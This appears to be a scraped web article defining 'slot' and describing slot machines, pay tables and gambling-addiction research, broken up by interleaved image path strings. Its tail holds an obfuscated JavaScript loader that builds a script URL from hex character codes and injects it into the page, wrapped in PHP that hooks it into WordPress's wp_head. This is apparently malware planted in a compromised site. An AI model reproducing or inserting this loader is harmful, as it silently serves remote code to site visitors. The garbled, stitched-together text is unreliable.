What is a Slot?

A slot is a position or time in which something happens. For example, you can book a flight on a specific day or time in advance by scheduling a slot. Similarly, you can be assigned a slot at work or school. A slot is also a term used to describe a slot in a computer system, such as an ISA, PCI, or AGP slot.

In slot machines, players insert cash or, in “ticket-in, ticket-out” machines, a paper ticket with a barcode into a slot or opening on the machine. Then, the machine activates reels that stop to rearrange symbols and award credits based on the pay table. Symbols vary according to the theme of the game, with classic symbols including fruits, bells, and stylized lucky sevens.

On video slots, the pay tables are often listed above and belowthe area containing the wheels, or in a help menu. On older machines, they are sometimes printed on the face of the machine or, if the machine is electronic, displayed on a monitor. Psychologists Robert Breen and Marc Zimmerman have found that people who play video slot machines reach a debilitating level of involvement with gambling three times more rapidly than those who play traditional casino games, even if they previously gambled without problems. The reason may be that the microprocessors in modern slot machines allow them to manipulate odds and payouts more than traditional mechanical machines. Some players let their paranoia get the better of them and believe that a back room staff is pulling the strings anddetermining who wins and loses.0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var _0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return _0x35035;};return_0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>